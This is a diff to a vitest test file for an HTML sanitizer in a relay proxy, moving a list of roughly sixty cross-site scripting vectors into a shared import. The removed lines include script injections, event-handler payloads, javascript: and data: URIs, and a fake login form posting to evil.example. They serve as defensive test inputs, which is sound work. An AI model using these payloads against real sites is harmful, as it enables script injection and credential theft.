@@ -3,74 +3,12 @@ import { Window } from 'happy-dom'
 import { expect, test } from 'vitest'
 import { cleanHtml } from '#relay/proxy/answers/clean-html.ts'
 import { Addresses } from '#relay/upstream/addresses.ts'
+import { VECTORS } from '#tests/support/hostile/vectors.ts'
 
 const addresses = new Addresses(new URL('https://origin.example/base'), ['pictures.example'])
 const clean = (html: string) => cleanHtml(html, (address) => addresses.shown(address))
 
-const hostile = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<img src="/a.webp" onload="alert(1)" style="position:fixed;inset:0">',
-  '<img srcset="javascript:alert(1) 1x, https://evil.example/a.png 2x">',
-  '<svg onload=alert(1)><circle r=1></svg>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" java&#x0A;script:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="//evil.example" onclick="alert(1)" style="color:red" target=_blank>x</a>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv=refresh content="0;url=https://evil.example">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
-  '<p style="background:url(https://evil.example/x)">x</p>',
-  '<div onpointerenter=alert(1) contenteditable autofocus onfocus=alert(1)>x</div>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<video><source onerror=alert(1) src=x></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<body onload=alert(1)>',
-  '<table background="javascript:alert(1)"><td background="x">x</td></table>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<plaintext><img src=x onerror=alert(1)>',
-  '<select><option><img src=x onerror=alert(1)></option></select>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!--[if IE]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
-  '<p id="loggedInUser" name="cookie">x</p>',
-  '<img name=body src="/a.png">',
-  '<p "onmouseover=alert(1)//">x</p>',
-  '<p/onclick=alert(1)>x</p>',
-  '<img/src="/a.png"/onerror=alert(1)>',
-  '<a href="https://evil.example" ping="https://evil.example" download>x</a>',
-  '<custom-element onclick=alert(1)>x</custom-element>',
-  '<p is="evil-element">x</p>',
-  `${'<div>'.repeat(5000)}x`,
-  '<img src="https://evil.example/pixel.gif">',
-  '<img src="//evil.example/pixel.gif">',
-  '<img src="/\\evil.example/pixel.gif">',
-  '<img src="http://pictures.example/a.png">',
-  '<picture><source srcset="https://evil.example/a.avif"><img src="/a.png"></picture>',
-  '<blockquote cite="https://evil.example"><q cite="javascript:alert(1)">x</q></blockquote>',
-]
+const hostile = [...VECTORS, `${'<div>'.repeat(5000)}x`]
 
 const ELEMENTS =
   'p br hr h2 h3 h4 h5 h6 blockquote pre div section ul ol li dl dt dd a em strong b i u s small sub sup mark del ins span code kbd samp var abbr cite q time table caption colgroup col thead tbody tfoot tr th td figure figcaption picture source img'.split(
